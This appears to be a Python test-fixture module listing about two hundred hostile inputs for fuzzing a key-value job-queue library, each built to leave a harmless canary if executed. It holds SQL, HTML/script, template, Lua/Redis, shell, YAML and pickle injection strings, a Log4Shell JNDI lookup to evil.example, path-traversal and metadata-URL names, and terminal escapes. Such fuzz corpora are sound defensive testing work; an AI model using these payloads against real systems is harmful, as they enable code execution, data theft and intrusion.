"""Two hundred payloads: what somebody who wants to do harm puts into keys, values and names.

A payload that would be executed leaves a mark: it creates `CANARY_FILE`, a table, a key of the
server or an element of a page that is called `CANARY`. `Payload.marked` writes the path of the file
into a payload.
"""

import pickle
import random
from collections.abc import Callable
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal
from enum import Enum
from fractions import Fraction
from functools import cache
from math import inf, nan
from pathlib import Path
from typing import Any, Final, NamedTuple
from uuid import UUID

CANARY: Final = "lkqcanary"
"""What a payload that is executed makes: a table, a key of a server, an element of a page."""
CANARY_FILE: Final = "@CANARY_FILE@"
"""Stands in texts for the path of the file that a payload creates when it is executed."""
LONG: Final = 1024 * 1024
SHORT: Final = 500


class Payload(NamedTuple):
    """Something to be used as a key, a value, a name, an error and so on.

    Attributes:
        family: What sort of attack it is.
        make: Makes it anew: some can be used up or changed. Most are texts.
    """

    family: str
    make: Callable[[], Any]

    def marked(self, canary_file: Path) -> Any:
        """The payload, with the path of the file that it would create."""
        value = self.make()
        if isinstance(value, str):
            return value.replace(CANARY_FILE, str(canary_file))
        if isinstance(value, bytes) and CANARY_FILE.encode() in value:
            return pickle.dumps(Executed(str(canary_file)), protocol=0)
        return value


class Colour(Enum):
    """An enum, whose members are encoded by their values."""

    RED = "red"


class Executed:
    """Creates the file of the canary when it is unpickled."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, str]]:
        return open, (self._path, "w")


class Unshowable:
    """Raises where it is shown."""

    def __repr__(self) -> str:
        raise RuntimeError("it cannot be shown")


def nested_lists(depth: int) -> Any:
    """Lists in lists."""
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def nested_dicts(depth: int) -> Any:
    """Mappings in mappings."""
    value: Any = 1
    for _ in range(depth):
        value = {"a": value}
    return value


def circular() -> list[Any]:
    """A list that is in itself."""
    value: list[Any] = []
    value.append(value)
    return value


def unpicklable_file() -> bytes:
    """A pickle that creates the file of the canary; `Payload.marked` writes the path into it."""
    return pickle.dumps(Executed(CANARY_FILE), protocol=0)


TERMINAL: Final = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;lkqcanary\x07",
    "\x1b]2;title\x1b\\",
    "\x1b]52;c;bGtxY2FuYXJ5\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x1b[?1049h",
    "\x1b[?1000h\x1b[?25l",
    "\x1b[8m hidden \x1b[28m",
    "\x1bc",
    "\x9b31mred\x9b0m",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "good\rbad",
    "12345\b\b\b\b\b67890",
    "line\nleasedkeyq: error: a line of its own",
    "tab\tvertical\vform\fbell\a",
    "\x7f\x7fdelete",
    "\x0e line drawing \x0f",
    "\x85next line\u2028separator\u2029paragraph",
]
HTML: Final = [
    "<lkqcanary>",
    "<script>lkqcanary</script>",
    "</script><script>lkqcanary</script>",
    "<img src=x onerror=lkqcanary>",
    '"><lkqcanary a="',
    "'><lkqcanary a='",
    '" onmouseover="lkqcanary',
    "' autofocus onfocus='lkqcanary",
    "javascript:lkqcanary",
    "</title><lkqcanary>",
    "</textarea><lkqcanary>",
    "</style><lkqcanary>",
    "--><lkqcanary>",
    "]]><lkqcanary>",
    "&lt;lkqcanary&gt;",
    "<svg/onload=lkqcanary>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__.os.popen('touch @CANARY_FILE@').read() }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "data: x\n\nevent: part\ndata: <lkqcanary>\n\n",
    "x\r\nset-cookie: lkqcanary=1\r\n\r\n<lkqcanary>",
]
SQL: Final = [
    "'; CREATE TABLE lkqcanary (a int); --",
    '"; CREATE TABLE lkqcanary (a int); --',
    "x'); CREATE TABLE lkqcanary (a int); --",
    "1; CREATE TABLE lkqcanary (a int)",
    "' OR '1'='1",
    "' UNION SELECT token FROM items --",
    "%' OR key LIKE '%",
    "%",
    "_",
    "%_\\%\\_",
    "$1",
    "$$; CREATE TABLE lkqcanary (a int); $$",
    "$body$ CREATE TABLE lkqcanary (a int) $body$",
    "?1 :name @name $name",
    "/* */; CREATE TABLE lkqcanary (a int); /*",
    "'; COPY (SELECT 1) TO PROGRAM 'touch @CANARY_FILE@'; --",
    "'; SELECT load_extension('/tmp/evil.so'); --",
    "'; ATTACH DATABASE '@CANARY_FILE@' AS lkqcanary; --",
    "\\'; CREATE TABLE lkqcanary (a int); --",
    "{a,b,NULL}",
    "NULL",
    'a","b',
]
LUA: Final = [
    "redis.call('SET','lkqcanary',1)",
    "' .. redis.call('SET','lkqcanary',1) .. '",
    "]] redis.call('SET','lkqcanary',1) --[[",
    "');redis.call('SET','lkqcanary',1);--",
    '"]=redis.call("SET","lkqcanary",1)--',
    "os.execute('touch @CANARY_FILE@')",
    "%d+",
    "%s%s%s%n",
    "[^a]*-?",
    "%1 %0",
    "\r\n*3\r\n$3\r\nSET\r\n$9\r\nlkqcanary\r\n$1\r\n1\r\n",
    "x\r\nSET lkqcanary 1\r\n",
    "KEYS[1]",
    "cjson.null",
]
CODE: Final = [
    "$(touch @CANARY_FILE@)",
    "`touch @CANARY_FILE@`",
    "; touch @CANARY_FILE@ #",
    "| touch @CANARY_FILE@",
    "&& touch @CANARY_FILE@",
    "\n touch @CANARY_FILE@ \n",
    "--help",
    "-rf",
    "__import__('os').system('touch @CANARY_FILE@')",
    "open('@CANARY_FILE@','w')",
    "{0.__class__.__mro__}",
    "{}",
    "{key!r:>{width}}",
    "%(key)s",
    "%s%d%n%x",
    "${jndi:ldap://evil.example/a}",
    "$HOME",
    "~root",
    "=cmd|'/c touch @CANARY_FILE@'!A1",
    "builtins:SystemExit",
    "Error\nraised: " + '{"type":"builtins:SystemExit","args":[3]}',
    "Error\nraised: " + '{"type":"os:system","args":["touch @CANARY_FILE@"]}',
    "Error\nraised: " + '{"type":"x","args":[],"more":' + "[" * 3000 + "]" * 3000 + "}",
]
YAML: Final = [
    "!!python/object/apply:os.system ['touch @CANARY_FILE@']",
    "!!python/object/new:os.system ['touch @CANARY_FILE@']",
    "!!python/name:os.system",
    "!!binary R0lGODlhDAAMAIQAAP",
    "!include /etc/passwd",
    "a: &a [x]\nb: &b [*a,*a]\nc: &c [*b,*b]",
    "&a [*a]",
    "*alias",
    "&anchor",
    "<<: *a",
    "- 1\n- 2",
    "key: value",
    "? complex",
    "---",
    "...",
    "--- !!map\nlkqcanary: 1\n...",
    "# a comment",
    "value # a comment",
    "yes",
    "NO",
    "null",
    "~",
    "0o17",
    "0x1F",
    "1_000",
    "12:30:45",
    "2026-11-18",
    "2026-11-18T10:00:00Z",
    ".inf",
    ".nan",
    "1e3",
    "|\n  block",
    ">-\n  folded",
    "'single'",
    '"double \\x41 \\u0041"',
    "@reserved",
    "%TAG ! tag:evil.example,2026:",
    "[unclosed",
    "{unclosed: ",
]
JSON: Final = [
    '{"a":1,"a":2}',
    '{"payload":{},"at":0}',
    '{"payload":{},"at":1e308,"timeout":-1,"unique_for":1e308}',
    '"\\ud800"',
    '"\\u0000"',
    "NaN",
    "-Infinity",
    "1e400",
    "123456789012345678901234567890",
    "0.1000000000000000055511151231257827021181583404541015625",
    "[1,]",
    "// comment\n1",
    '{"__class__":"os.system","__reduce__":[]}',
    '{"__proto__":{"lkqcanary":1}}',
    "[" * 5000 + "]" * 5000,
    '{"$ref":"file:///etc/passwd"}',
]
NAMES: Final = [
    "a:b",
    "a::b",
    ":",
    "{tag}",
    "{",
    "}",
    "{}{}",
    "}{",
    "lkq:{jobs}:items",
    "*",
    "**",
    "a*b",
    "?[a-z]",
    "#",
    "a#1",
    "@",
    "a@b",
    "%2e%2e%2f",
    "%00",
    "a.b.c",
    "4711.mail.key",
    "leasedkeyq.lanes",
    "leasedkeyq.schedules",
    "paused:mail",
    "a/b",
    "/",
    "..",
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\Windows\\",
    "CON",
    "?format=json#top",
    "a&b=c;d",
    "http://169.254.169.254/latest",
]
UNICODE: Final = [
    "\ud800",
    "a\udfffb",
    "\udc80\udcff",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u200f\u200e",
    "pa\u200byload",
    "\ufeffbom",
    "\u00e9",
    "e\u0301",
    "\u212b \u00c5 A\u030a",
    "\u0430dmin",
    "\uff41\uff44\uff4d\uff49\uff4e",
    "\u0130\u0131\u017f\u1e9e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "z\u0351\u034a\u0343\u0302" + "\u0300" * 200,
    "\ufffe\uffff",
    "\U0010ffff",
    "\ue000\U000f0000",
    "\U000e0001\U000e0041",
    "\u0660\u0661\u0662",
    "\ufdfa" * 20,
]
BLANK: Final = ["", " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2003 \u200a", " a", "a "]
SIZES: Final = [
    "k" * 512,
    "k" * 513,
    "\U0001f600" * 512,
    "\u0300" * 513,
    "k" * LONG,
    "\x00" * LONG,
    "\x1b[31m" * 100_000,
]
VALUES: Final[list[tuple[str, Callable[[], Any]]]] = [
    ("nesting", lambda: nested_lists(100)),
    ("nesting", lambda: nested_lists(900)),
    ("nesting", lambda: nested_lists(100_000)),
    ("nesting", lambda: nested_dicts(900)),
    ("nesting", lambda: nested_dicts(100_000)),
    ("nesting", circular),
    ("numbers", lambda: nan),
    ("numbers", lambda: inf),
    ("numbers", lambda: -inf),
    ("numbers", lambda: -0.0),
    ("numbers", lambda: 5e-324),
    ("numbers", lambda: 1.7976931348623157e308),
    ("numbers", lambda: 0.1 + 0.2),
    ("numbers", lambda: 2**53 + 1),
    ("numbers", lambda: 2**63 - 1),
    ("numbers", lambda: -(2**63)),
    ("numbers", lambda: 2**63),
    ("numbers", lambda: 2**64 - 1),
    ("numbers", lambda: 2**64),
    ("numbers", lambda: -(2**63) - 1),
    ("numbers", lambda: 10**400),
    ("numbers", lambda: 10**5000),
    ("numbers", lambda: True),
    ("numbers", lambda: -1),
    ("numbers", lambda: Decimal("NaN")),
    ("numbers", lambda: Decimal("1e400")),
    ("numbers", lambda: Fraction(1, 3)),
    ("numbers", lambda: 1j),
    ("dates", lambda: datetime(1, 1, 1)),  # noqa: DTZ001 - without a zone
    ("dates", lambda: datetime(9999, 12, 31, 23, 59, 59, 999999, UTC)),
    ("dates", lambda: datetime(2026, 11, 18, tzinfo=timezone(timedelta(hours=14)))),
    ("dates", lambda: date(1582, 10, 4)),
    ("dates", lambda: time(23, 59, 59, 999999)),
    ("dates", lambda: timedelta.max),
    ("bytes", lambda: b"\xff\xfe\x00"),
    ("bytes", lambda: bytearray(b"\x80abc")),
    ("bytes", lambda: memoryview(b"\x00\x01")),
    ("bytes", unpicklable_file),
    ("bytes", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 1000),
    ("objects", object),
    ("objects", Unshowable),
    ("objects", lambda: Executed("x")),
    ("objects", lambda: print),
    ("objects", lambda: ValueError("an error, not a text")),
    ("objects", lambda: (one for one in "ab")),
    ("objects", lambda: Colour.RED),
    ("objects", lambda: UUID(int=2**128 - 1)),
    ("objects", lambda: {3, 1, 2}),
    ("objects", lambda: ("a", 1, None)),
    ("objects", lambda: None),
    ("mappings", lambda: {"": "", " ": 0, "\x00": "\x00"}),
    ("mappings", lambda: {1: "a", 2.5: "b", -7: "c"}),
    ("mappings", lambda: {(1, 2): "a"}),
    ("mappings", lambda: {"\ud800": 1}),
    ("mappings", lambda: {"<<": {"a": 1}, "*a": "&a", "!!python/name:os.system": "x"}),
    ("mappings", lambda: {"__proto__": 1, "$type": "x", "constructor": None}),
    ("mappings", lambda: {"a" * 10_000: "b" * 100_000}),
    ("mappings", lambda: {"payload": {}, "at": 0.0, "workflow": {"chain": "x"}}),
    ("mappings", lambda: {"keys": [{"rate": nan}]}),
    ("mappings", lambda: ["x" * 600_000, "y" * 600_000]),
]
TEXTS: Final[dict[str, list[str]]] = {
    "terminal": TERMINAL,
    "html": HTML,
    "sql": SQL,
    "lua": LUA,
    "code": CODE,
    "yaml": YAML,
    "json": JSON,
    "names": NAMES,
    "unicode": UNICODE,
    "blank": BLANK,
    "sizes": SIZES,
}


@cache
def all_payloads() -> list[Payload]:
    """All of them. Families take turns."""
    columns = [[_text(family, text) for text in texts] for family, texts in TEXTS.items()]
    by_family: dict[str, list[Payload]] = {}
    for family, make in VALUES:
        by_family.setdefault(family, []).append(Payload(family, make))
    columns += by_family.values()
    rounds = max(len(column) for column in columns)
    return [
        column[number] for number in range(rounds) for column in columns if number < len(column)
    ]


@cache
def short_texts() -> list[Payload]:
    """Those that are texts, and not long."""
    return [
        _text(family, text)
        for family, texts in TEXTS.items()
        for text in texts
        if len(text) < SHORT
    ]


def mixed(dice: random.Random) -> Payload:
    """A mixture of two payloads: one inside the other."""
    first, second = dice.sample(short_texts(), 2)
    outer: str = first.make()
    at = dice.randint(0, len(outer))
    text = outer[:at] + second.make() + outer[at:]
    return _text(f"{first.family} and {second.family}", text)


def _text(family: str, text: str) -> Payload:
    return Payload(family, lambda: text)
